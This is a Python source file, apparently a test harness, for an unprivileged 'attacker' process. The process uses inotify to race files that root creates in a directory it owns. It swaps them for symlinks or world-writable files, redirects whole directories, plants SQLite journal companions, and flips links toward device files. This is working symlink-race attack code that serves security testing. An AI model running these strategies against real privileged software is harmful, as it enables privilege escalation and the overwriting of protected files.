"""An unprivileged process that owns a directory, and swaps what root makes in it as soon as it appears.

It reads one command a line: "STRATEGY AIM" to begin (it answers "ready"), "rest" to stop ("rested").
"""

from __future__ import annotations

import contextlib
import ctypes
import os
import select
import struct
import sys
from pathlib import Path

IN_MOVED_TO, IN_CREATE = 0x80, 0x100
MINE = "mine-"  # the names of what the attacker makes himself
COMPANIONS = ("-wal", "-shm", "-journal")
_libc = ctypes.CDLL(None, use_errno=True)


def own_file(path):
    """A file that everybody may write."""
    os.close(os.open(path, os.O_CREAT | os.O_EXCL | os.O_RDWR))
    os.chmod(path, 0o666)


def swap_link(directory, name, aim):
    """A symbolic link in its place."""
    os.symlink(aim, f"{directory}/{MINE}link")
    os.rename(f"{directory}/{name}", f"{directory}/{MINE}aside-{name}")
    os.rename(f"{directory}/{MINE}link", f"{directory}/{name}")


def swap_file(directory, name, _):
    """A file of the attacker's in its place."""
    own_file(f"{directory}/{MINE}file")
    os.rename(f"{directory}/{MINE}file", f"{directory}/{name}")


def swap_directory(directory, _, aim):
    """The directory itself becomes a link to another one."""
    os.rename(directory, f"{directory}-aside")
    os.symlink(os.path.dirname(aim), directory)


def plant_files(directory, name, _):
    """Files of the attacker's where SQLite will have its log."""
    for suffix in COMPANIONS:
        with contextlib.suppress(OSError):
            own_file(f"{directory}/{name}{suffix}")


def plant_links(directory, name, aim):
    """Links where SQLite will have its log."""
    for suffix in COMPANIONS:
        with contextlib.suppress(OSError):
            os.symlink(f"{aim}{suffix}", f"{directory}/{name}{suffix}")


def swap_temporary(directory, name, aim):
    """A link to another directory in the place of one that was made."""
    os.rename(f"{directory}/{name}", f"{directory}/{MINE}aside-{name}")
    os.symlink(os.path.dirname(aim), f"{directory}/{name}")


def lead(directory, name, aims):
    """A name that leads now here, now there."""
    for aim in aims:
        os.symlink(aim, f"{directory}/{MINE}link")
        os.rename(f"{directory}/{MINE}link", f"{directory}/{name}")


def devices(directory):
    """Where the test has a device, that of nobody else could be lost."""
    return f"{os.path.dirname(os.path.dirname(directory))}/devices"


def lead_away(directory, aim):
    """A link that stands all the time, in the middle of a path."""
    lead(directory, "l", [os.path.dirname(aim)])


def flip_directory(directory, aim):
    """The same that leads to a directory of the attacker's half of the time."""
    lead(directory, "l", [f"{directory}/{MINE}directory", os.path.dirname(aim)])


def flip_device(directory, aim):
    """A link to a device half of the time."""
    lead(directory, "x", [devices(directory) + "/null", aim])


def flip_devices(directory, _):
    """A link in the middle that leads to where the devices are half of the time; there the name is a link."""
    lead(directory, "l", [devices(directory), f"{directory}/{MINE}directory"])


STRATEGIES = {
    one.__name__: one for one in (swap_link, swap_file, swap_directory, plant_files, plant_links)
}
TEMPORARY = {one.__name__: one for one in (swap_temporary, swap_directory)}
# What the attacker does all the time, whatever is made.
FLIPS = {one.__name__: one for one in (lead_away, flip_directory, flip_device, flip_devices)}
STEADY = {"lead_away": None}  # leads to one place, and need not be made again


def names(data):
    """The names in what inotify tells."""
    while data:
        _, _, _, size = struct.unpack_from("iIII", data)
        yield os.fsdecode(data[16 : 16 + size].rstrip(b"\0"))
        data = data[16 + size :]


def begun(strategy, directory, aim):
    """What there is to be waited for: an inotify descriptor; None for who waits for nothing."""
    if strategy in FLIPS:
        os.mkdir(f"{directory}/{MINE}directory")
        os.chmod(f"{directory}/{MINE}directory", 0o777)
        os.symlink(aim, f"{directory}/{MINE}directory/null")
        FLIPS[strategy](directory, aim)
        return None
    watch = _libc.inotify_init1(os.O_CLOEXEC)
    _libc.inotify_add_watch(watch, os.fsencode(directory), IN_CREATE | IN_MOVED_TO)
    return watch


def go_on(strategy, directory, aim, watch):
    """Do what the strategy says, once or to all that has appeared; returns when there are orders."""
    while not select.select([0], [], [], STEADY.get(strategy, 0))[0]:
        if strategy in FLIPS:
            FLIPS[strategy](directory, aim)
        elif watch in select.select([0, watch], [], [])[0]:
            for name in names(os.read(watch, 65536)):
                if not name.startswith(MINE) and not name.endswith(COMPANIONS):
                    with contextlib.suppress(OSError):
                        (STRATEGIES | TEMPORARY)[strategy](directory, name, aim)


def main():
    directory, uid = sys.argv[1], int(sys.argv[2])
    os.setgroups([])
    os.setresgid(uid, uid, uid)
    os.setresuid(uid, uid, uid)
    while words := os.read(0, 4096).decode().split():
        if words == ["rest"]:
            os.write(1, b"rested\n")
            continue
        strategy, aim = words
        watch = begun(strategy, directory, aim)
        os.write(1, b"ready\n")
        go_on(strategy, directory, aim, watch)
        if watch is not None:
            os.close(watch)


if __name__ == "__main__":
    Path("/proc/self/comm").write_text("attacker")
    main()
